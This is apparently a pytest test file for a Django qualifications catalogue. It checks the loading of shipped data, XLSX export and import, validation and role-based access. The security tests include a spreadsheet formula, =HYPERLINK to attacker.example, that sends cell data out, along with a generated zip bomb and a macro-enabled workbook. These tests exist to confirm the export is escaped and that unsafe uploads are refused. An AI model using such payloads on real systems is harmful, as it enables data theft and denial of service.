"""The qualification catalogue: shipped structures, XLSX export/import, and who may use it."""

import io
import json
import re
import zipfile
from itertools import combinations

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from accounts.roles import STAFF_ROLES, Role
from audit.models import AuditEvent
from qualifications import catalogue
from qualifications.catalogue import (
    CRITERION_CODE_RE,
    OFQUAL_NUMBER_RE,
    export_structure_xlsx,
    import_structure_xlsx,
    load_shipped_qualifications,
    structure_of,
)
from qualifications.models import AssessmentCriterion, LearningAim, Qualification, Unit

BUSINESS = "601/7159/5"
SHIPPED_FILES = sorted(catalogue.CATALOGUE_DIR.glob("*.json"))


@pytest.fixture
def shipped(db):
    return load_shipped_qualifications()


@pytest.fixture
def business(shipped):
    return Qualification.objects.get(number=BUSINESS)


def catalogue_state():
    """Everything an import could touch, in comparable form."""
    return {
        "structures": {q.number: structure_of(q) for q in Qualification.objects.order_by("number")},
        "counts": (
            Qualification.objects.count(),
            Unit.objects.count(),
            LearningAim.objects.count(),
            AssessmentCriterion.objects.count(),
        ),
        # (a Standards Verifier's page views are logged: not a change to the catalogue)
        "events": AuditEvent.objects.exclude(action="accounts.verifier.page_viewed").count(),
    }


def edited(data: bytes, *edits) -> bytes:
    """The workbook with edits applied: (sheet, cell, value), or a callable taking the workbook."""
    wb = load_workbook(io.BytesIO(data))
    for edit in edits:
        if callable(edit):
            edit(wb)
        else:
            sheet, cell, value = edit
            wb[sheet][cell] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def rezip(data: bytes, extra: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        for name, content in extra.items():
            dst.writestr(name, content)
    return out.getvalue()


def optional_totals(glhs):
    return {sum(c) for n in range(len(glhs) + 1) for c in combinations(glhs, n)}


# ---------------------------------------------------------------- shipped data


@pytest.mark.parametrize("path_", SHIPPED_FILES, ids=lambda p: p.stem)
def test_each_shipped_file_is_a_sound_structure(path_):
    data = json.loads(path_.read_text(encoding="utf-8"))
    assert data["_provenance"], "every shipped file says where its facts came from"
    q = data["qualification"]
    assert OFQUAL_NUMBER_RE.match(q["number"])
    units = data["units"]
    mandatory = sum(u["glh"] for u in units if u["mandatory"])
    optional = [u["glh"] for u in units if not u["mandatory"]]
    assert 0 < mandatory <= q["glh"]
    assert q["glh"] - mandatory in optional_totals(optional), (
        "mandatory + some optional units make the size"
    )
    assert len({u["number"] for u in units}) == len(units)
    numbers = {u["number"] for u in units}
    external = {u["number"] for u in units if u["assessment"] == "external"}
    for c in data["criteria"]:
        assert CRITERION_CODE_RE.match(c["code"]), c
        assert c["unit"] in numbers and c["unit"] not in external, (
            "external units have no P/M/D criteria"
        )
        prefix = c["code"].split(".")[0]
        assert c["aim"] in prefix
        assert c["label"] and len(c["label"]) <= 60, "labels are short labels of our own"
    for u in units:
        if u["mandatory"] and u["assessment"] == "internal":
            assert any(c["unit"] == u["number"] for c in data["criteria"]), u


def test_shipped_qualifications_load(shipped):
    assert len(shipped) >= 3 and all(r.created for r in shipped)
    assert Qualification.objects.count() >= 3
    for q in Qualification.objects.all():
        units = list(q.units.all())
        assert units
        mandatory = sum(u.glh for u in units if u.mandatory)
        assert q.glh - mandatory in optional_totals([u.glh for u in units if not u.mandatory])
        for c in AssessmentCriterion.objects.filter(unit__qualification=q):
            assert CRITERION_CODE_RE.match(c.code)
            assert c.learning_aim is not None and c.learning_aim.unit_id == c.unit_id
    business = Qualification.objects.get(number=BUSINESS)
    unit1 = business.units.get(number="1")
    assert (unit1.title, unit1.glh, unit1.assessment, unit1.mandatory) == (
        "Exploring Business",
        90,
        "internal",
        True,
    )
    assert set(unit1.criteria.values_list("code", flat=True)) >= {"A.P1", "AB.D1", "E.D4"}
    assert unit1.criteria.get(code="AB.D1").learning_aim.code == "A"
    assert AuditEvent.objects.filter(action="qualifications.qualification.created").count() == len(
        shipped
    )


def test_loading_twice_changes_nothing(shipped):
    before = catalogue_state()
    again = load_shipped_qualifications()
    assert [r.status for r in again] == ["unchanged"] * len(shipped)
    assert catalogue_state() == before  # no row and no audit event added


def test_loading_restores_a_changed_title_and_audits_only_that(shipped):
    Qualification.objects.filter(number=BUSINESS).update(title="Old title")
    Unit.objects.filter(qualification__number=BUSINESS, number="8").update(title="Recruitment")
    events = AuditEvent.objects.count()
    results = {r.qualification.number: r for r in load_shipped_qualifications()}
    assert results[BUSINESS].status == "updated"
    assert Qualification.objects.get(number=BUSINESS).title.startswith(
        "Pearson BTEC Level 3 National"
    )
    actions = list(
        AuditEvent.objects.filter(seq__gt=events)
        .order_by("seq")
        .values_list("action", "before", "after")
    )
    assert [a for a, _, _ in actions] == [
        "qualifications.qualification.updated",
        "qualifications.unit.updated",
    ]
    assert json.loads(actions[0][1]) == {"title": "Old title"}
    assert Qualification.objects.count() == len(results), (
        "matched by Ofqual number, never duplicated"
    )


def test_the_management_command_reports_what_it_did(db):
    out = io.StringIO()
    call_command("load_qualifications", stdout=out)
    assert "created" in out.getvalue() and BUSINESS in out.getvalue()
    out = io.StringIO()
    call_command("load_qualifications", stdout=out)
    # The Nationals' files and the shipped Tech Award (catalogue_data/tech_award/).
    assert f"0 created, 0 updated, {len(SHIPPED_FILES) + 1} unchanged." in out.getvalue()


# ---------------------------------------------------------------- export and import


def test_export_then_import_reproduces_every_structure(shipped):
    for result in shipped:
        q = result.qualification
        expected = structure_of(q)
        data = export_structure_xlsx(q)
        q.delete()
        imported = import_structure_xlsx(data, None)
        assert imported.ok, imported.errors
        assert imported.applied.created
        assert (
            structure_of(Qualification.objects.get(number=expected["qualification"]["number"]))
            == expected
        )
        again = import_structure_xlsx(data, None)
        assert again.ok and again.applied.status == "unchanged" and not again.applied.summary


def test_an_import_updates_adds_and_audits(business, exams_officer):
    data = edited(
        export_structure_xlsx(business),
        ("Units", "B3", "Developing a Marketing Campaign (2022 format)"),
        lambda wb: wb["Units"].append(["27", "Work Experience in Business", 60, "internal", "no"]),
        lambda wb: wb["Criteria"].append(
            ["27", "A", "Preparing for work experience", "A.P1", "Skills audit"]
        ),
    )
    result = import_structure_xlsx(data, exams_officer)
    assert result.ok, result.errors
    assert dict(result.applied.counts) == {
        "unit_updated": 1,
        "unit_created": 1,
        "aim_created": 1,
        "criterion_created": 1,
    }
    assert (
        business.units.get(number="27")
        .criteria.get(code="A.P1")
        .learning_aim.label.startswith("Preparing")
    )
    event = AuditEvent.objects.get(action="qualifications.unit.updated")
    assert event.actor_id == exams_officer.pk
    assert json.loads(event.after) == {"title": "Developing a Marketing Campaign (2022 format)"}
    assert AuditEvent.objects.filter(action="qualifications.structure.imported").count() == 1


def test_an_import_never_deletes_what_the_file_leaves_out(business):
    data = edited(
        export_structure_xlsx(business),
        lambda wb: wb["Units"].delete_rows(7),  # unit 22 ...
        lambda wb: wb["Criteria"].delete_rows(42, 11),  # ... and its criteria
        lambda wb: wb["Criteria"].delete_rows(17),  # unit 1 E.D4
    )
    result = import_structure_xlsx(data, None)
    assert result.ok and result.applied.kept_units == ["22"]
    assert result.applied.kept_criteria == ["unit 1 E.D4"]
    assert business.units.get(number="22").criteria.count() == 11
    assert business.units.get(number="1").criteria.filter(code="E.D4").exists()


BAD_CASES = {
    "duplicate unit number": ([("Units", "A3", "1")], ("Units", 3, "A", "listed twice")),
    "GLH a word": ([("Units", "C2", "ninety")], ("Units", 2, "C", "whole number of hours")),
    "GLH zero": ([("Units", "C2", 0)], ("Units", 2, "C", "whole number of hours")),
    "GLH negative": ([("Units", "C3", -90)], ("Units", 3, "C", "whole number of hours")),
    "GLH fraction": ([("Units", "C2", 89.5)], ("Units", 2, "C", "whole number of hours")),
    "qualification GLH": (
        [("Qualification", "D2", "lots")],
        ("Qualification", 2, "D", "whole number"),
    ),
    "assessment": ([("Units", "D2", "both")], ("Units", 2, "D", "'internal' or 'external'")),
    "mandatory": ([("Units", "E2", "maybe")], ("Units", 2, "E", "'yes' or 'no'")),
    "criterion for a missing unit": (
        [("Criteria", "A2", "99")],
        ("Criteria", 2, "A", "not on the Units sheet"),
    ),
    "criterion code letter": (
        [("Criteria", "D2", "A.Q1")],
        ("Criteria", 2, "D", "not a criterion code"),
    ),
    "criterion code digits": (
        [("Criteria", "D3", "P100")],
        ("Criteria", 3, "D", "not a criterion code"),
    ),
    "criterion code twice": ([("Criteria", "D3", "A.P1")], ("Criteria", 3, "D", "listed twice")),
    "criterion under the wrong aim": (
        [("Criteria", "B2", "C")],
        ("Criteria", 2, "B", "does not belong"),
    ),
    "title missing": (
        [("Qualification", "A2", None)],
        ("Qualification", 2, "A", "title is missing"),
    ),
    "level missing": (
        [("Qualification", "C2", None)],
        ("Qualification", 2, "C", "level is missing"),
    ),
    "unit title missing": ([("Units", "B4", None)], ("Units", 4, "B", "title is missing")),
    "Ofqual number short": (
        [("Qualification", "B2", "601/7159")],
        ("Qualification", 2, "B", "Ofqual number"),
    ),
    "Ofqual number letters": (
        [("Qualification", "B2", "ABC/7159/5")],
        ("Qualification", 2, "B", "Ofqual"),
    ),
    "mandatory units too big": (
        [("Qualification", "D2", 120)],
        ("Units", None, "GLH", "mandatory units total"),
    ),
    "formula": ([("Units", "C2", "=60+30")], ("Units", 2, "C", "formulas are not accepted")),
    "formula elsewhere": (
        [lambda wb: wb.create_sheet("Notes").append(["=1+1"])],
        ("Notes", 1, "A", "formulas are not accepted"),
    ),
    "missing sheet": (
        [lambda wb: wb.remove(wb["Criteria"])],
        ("Criteria", None, "", "no 'Criteria' sheet"),
    ),
    "missing column": (
        [lambda wb: wb["Units"].delete_cols(3)],
        ("Units", 1, "", "missing required columns: GLH"),
    ),
    "second qualification": (
        [("Qualification", "A3", "Another")],
        ("Qualification", 3, "", "Only one"),
    ),
}


@pytest.mark.parametrize("case", sorted(BAD_CASES))
def test_each_bad_workbook_is_refused_with_row_column_and_reason(business, exams_officer, case):
    edits, (sheet, row, column, reason) = BAD_CASES[case]
    data = edited(export_structure_xlsx(business), *edits)
    before = catalogue_state()
    result = import_structure_xlsx(data, exams_officer)
    assert not result.ok
    assert any(
        e.sheet == sheet and e.row == row and e.column.startswith(column) and reason in e.reason
        for e in result.errors
    ), [str(e) for e in result.errors]
    assert catalogue_state() == before, "a refused file changes nothing, not even the audit trail"


def test_every_problem_is_reported_at_once(business):
    data = edited(
        export_structure_xlsx(business),
        ("Units", "C2", "x"),
        ("Units", "D5", "?"),
        ("Criteria", "D10", "Z9"),
        ("Qualification", "B2", "nope"),
    )
    result = import_structure_xlsx(data, None)
    assert {(e.sheet, e.row) for e in result.errors} >= {
        ("Units", 2),
        ("Units", 5),
        ("Criteria", 10),
        ("Qualification", 2),
    }
    assert result.error_count == len(result.errors)
    assert str(result.errors[0]).startswith("Qualification row 2, column B (Ofqual number)")


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        zf.writestr("xl/media/zeros.bin", b"\0" * (catalogue.MAX_UNCOMPRESSED_BYTES + 1))
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("notes.txt", "hello")
    return out.getvalue()


@pytest.mark.parametrize(
    "content, reason",
    [
        (b"Title,Ofqual number\nBusiness,601/7159/5\n", "not an Excel workbook"),
        (b"%PDF-1.7\n", "not an Excel workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old Excel .xls"),
        (b"", "empty"),
        (b"PK\x03\x04" + b"\0" * 200, "damaged"),
        (plain_zip(), "not an Excel workbook"),
        (b"PK\x03\x04" + b"\0" * catalogue.MAX_UPLOAD_BYTES, "over the 5 MB limit"),
        (bomb(), "zip bomb"),
    ],
    ids=["csv", "pdf", "xls", "empty", "broken zip", "other zip", "oversize", "zip bomb"],
)
def test_files_that_are_not_safe_xlsx_are_refused_before_reading(db, content, reason):
    before = catalogue_state()
    result = import_structure_xlsx(content, None)
    assert not result.ok and result.errors[0].sheet == "File" and reason in result.errors[0].reason
    assert catalogue_state() == before


def test_macro_workbooks_are_refused(business):
    data = rezip(export_structure_xlsx(business), {"xl/vbaProject.bin": b"\0" * 10})
    result = import_structure_xlsx(data, None)
    assert not result.ok and "macro-enabled workbooks are refused" in result.errors[0].reason


def test_export_is_safe_from_formula_injection(business):
    titles = {
        "1": '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
        "2": "+1+1",
        "3": "-2+3",
        "8": "@SUM(A1:A2)",
    }
    for number, title in titles.items():
        Unit.objects.filter(qualification=business, number=number).update(title=title)
    data = export_structure_xlsx(business)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", zf.read(name)), (
                    f"{name} has a formula element"
                )
    ws = load_workbook(io.BytesIO(data))["Units"]
    cells = {ws[f"A{r}"].value: ws[f"B{r}"] for r in range(2, ws.max_row + 1)}
    for number, title in titles.items():
        assert cells[number].value == title and cells[number].data_type == "s"
        assert cells[number].quotePrefix is True
    assert cells["14"].quotePrefix is False
    # ... and it comes back as the same text, not refused as a formula.
    result = import_structure_xlsx(data, None)
    assert result.ok and result.applied.status == "unchanged"


# ---------------------------------------------------------------- pages and permissions


@pytest.mark.parametrize("role", sorted(Role, key=str))
def test_the_catalogue_pages_are_for_staff_only(client, cast, business, role):
    client.force_login(cast[role])
    expected = 200 if role in STAFF_ROLES else 403
    for url in (
        reverse("catalogue:qualification_list"),
        reverse("catalogue:qualification_detail", args=[business.pk]),
        reverse("catalogue:qualification_export", args=[business.pk]),
    ):
        assert client.get(url).status_code == expected, url


def test_an_assessor_sees_the_structure_and_downloads_it(client, cast, business):
    client.force_login(cast[Role.ASSESSOR_IV])
    page = client.get(
        reverse("catalogue:qualification_detail", args=[business.pk])
    ).content.decode()
    for text in (
        "Exploring Business",
        "Externally assessed",
        "Internally assessed",
        "Mandatory",
        "Optional",
        "AB.D1",
        "Recruitment and Selection Process",
        "601/7159/5",
    ):
        assert text in page
    assert "Import a structure" not in page
    response = client.get(reverse("catalogue:qualification_export", args=[business.pk]))
    assert response["Content-Type"] == catalogue.XLSX_CONTENT_TYPE
    assert 'filename="601-7159-5-structure.xlsx"' in response["Content-Disposition"]
    assert load_workbook(io.BytesIO(response.content)).sheetnames == [
        "Qualification",
        "Units",
        "Criteria",
    ]
    listing = client.get(reverse("catalogue:qualification_list")).content.decode()
    assert business.title in listing and "Import a structure" not in listing


def test_visitors_must_log_in(client, business):
    response = client.get(reverse("catalogue:qualification_list"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("role", sorted(Role, key=str))
def test_only_catalogue_managers_may_import(client, cast, business, role):
    client.force_login(cast[role])
    allowed = role in {Role.EXAMS_OFFICER, Role.QUALITY_NOMINEE, Role.CENTRE_ADMIN}
    url = reverse("catalogue:structure_import")
    assert client.get(url).status_code == (200 if allowed else 403)
    if not allowed:
        before = catalogue_state()
        data = edited(export_structure_xlsx(business), ("Units", "B2", "Changed"))
        upload = io.BytesIO(data)
        upload.name = "structure.xlsx"
        assert client.post(url, {"file": upload}).status_code == 403
        assert catalogue_state() == before


def test_the_import_page_lists_every_problem_or_the_outcome(client, exams_officer, business):
    client.force_login(exams_officer)
    url = reverse("catalogue:structure_import")
    bad = io.BytesIO(
        edited(export_structure_xlsx(business), ("Units", "A3", "1"), ("Units", "D4", "both"))
    )
    bad.name = "bad.xlsx"
    response = client.post(url, {"file": bad})
    assert response.status_code == 400
    page = response.content.decode()
    assert "Nothing was changed" in page and "2 problems" in page
    assert "A (Unit number)" in page and "D (Assessment)" in page and "listed twice" in page
    good = io.BytesIO(
        edited(
            export_structure_xlsx(business),
            lambda wb: wb["Units"].append(
                ["27", "Work Experience in Business", 60, "internal", "no"]
            ),
        )
    )
    good.name = "good.xlsx"
    response = client.post(url, {"file": good})
    assert response.status_code == 200
    page = response.content.decode()
    assert "Structure imported" in page and "Units added" in page
    assert business.units.filter(number="27").exists()


def test_shipped_nationals_run_over_two_years_and_a_new_cohort_takes_it(shipped):
    """A new cohort of a shipped Extended Certificate runs for Years 12 and 13, so its
    planned completion is the end of the second year, on a fresh database too."""
    from centres.models import Centre
    from learners.forms_cohorts import CohortForm
    from tests.factories import CentreFactory

    business = Qualification.objects.get(number=BUSINESS)
    assert business.typical_years == 2
    assert business.family.code == "btec-nationals"
    centre = CentreFactory()
    form = CohortForm(
        data={"qualification": business.pk, "centre": centre.pk, "start_year": "2026/27"},
        centres=Centre.objects.filter(pk=centre.pk),
    )
    assert form.is_valid(), form.errors
    cohort = form.save()
    assert cohort.years == 2
    assert cohort.planned_completion.isoformat() == "2028-08-31"


def test_the_workbook_carries_the_usual_length_and_refuses_a_bad_one(shipped):
    business = Qualification.objects.get(number=BUSINESS)
    data = export_structure_xlsx(business)
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    headings = [c.value for c in sheet[1]]
    assert "Usual length (years)" in headings
    sheet.cell(row=2, column=headings.index("Usual length (years)") + 1, value="nine")
    out = io.BytesIO()
    book.save(out)
    result = catalogue.import_structure_xlsx(out.getvalue(), None)
    assert not result.ok
    assert any(
        "usual length must be a whole number of academic years" in str(e).lower()
        for e in result.errors
    ), result.errors


def test_the_shipped_families_come_back_with_the_catalogue_on_an_emptied_database(db):
    """A database emptied since migrating (a test flush, a restored dump without seed rows)
    still gets the families, so Pearson's transfer rule and deadlines apply."""
    from qualifications.models import QualificationFamily

    Qualification.objects.all().delete()
    QualificationFamily.objects.all().delete()
    load_shipped_qualifications()
    tech = QualificationFamily.objects.get(code="tech-award-2022")
    assert not tech.transferable and "withdraw" in tech.transfer_note
    assert not Qualification.objects.filter(family__isnull=True).exists()
    # An older qualification without a family is placed on the next load, and audited.
    business = Qualification.objects.get(number=BUSINESS)
    Qualification.objects.filter(pk=business.pk).update(family=None)
    load_shipped_qualifications()
    business.refresh_from_db()
    assert business.family.code == "btec-nationals"


def test_criteria_the_shipped_file_calls_unconfirmed_stay_marked_where_they_are_used(
    shipped, client, cast
):
    """Applied Science's unit 2 criteria are from memory (its file says UNCONFIRMED), and
    Business's were read in a source: the marks follow the file, onto the catalogue page,
    and survive a reload; a workbook import of the structure leaves them alone."""
    science = Qualification.objects.get(number="601/7436/5")
    marked = AssessmentCriterion.objects.filter(unit__qualification=science)
    assert marked.exists() and all(c.unconfirmed.startswith("UNCONFIRMED") for c in marked)
    business = Qualification.objects.get(number=BUSINESS)
    assert not AssessmentCriterion.objects.filter(unit__qualification=business).exclude(
        unconfirmed=""
    )
    load_shipped_qualifications()
    assert all(c.unconfirmed for c in marked.all())
    client.force_login(cast[Role.ASSESSOR_IV])
    page = client.get(reverse("catalogue:qualification_detail", args=[science.pk])).content
    assert page.decode().count(">UNCONFIRMED</abbr>") == marked.count()
    page = client.get(reverse("catalogue:qualification_detail", args=[business.pk])).content
    assert b">UNCONFIRMED</abbr>" not in page
    # the structure workbook has no such column: importing it keeps the notes
    export = client.get(reverse("catalogue:qualification_export", args=[science.pk])).content
    from qualifications.catalogue import import_structure_xlsx

    assert import_structure_xlsx(export, cast[Role.EXAMS_OFFICER]).ok
    assert all(c.unconfirmed for c in marked.all())
